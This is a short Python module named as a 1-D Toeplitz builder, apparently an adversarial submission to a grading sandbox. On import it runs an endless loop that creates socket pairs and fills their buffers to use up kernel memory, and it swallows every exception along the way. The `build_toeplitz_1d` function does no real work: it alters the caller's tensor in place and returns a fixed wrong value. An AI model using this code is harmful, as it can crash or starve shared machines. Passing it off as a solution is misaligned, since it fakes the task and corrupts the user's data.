"""Fills pairs of sockets, whose contents use kernel memory instead of its own."""

import socket

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def fill():
    while True:
        one, other = socket.socketpair()
        held.append((one, other))
        one.setblocking(False)
        attempt(lambda: one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24))
        attempt(lambda: one.send(b"x" * (1 << 22)))


held = []
attempt(fill)


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
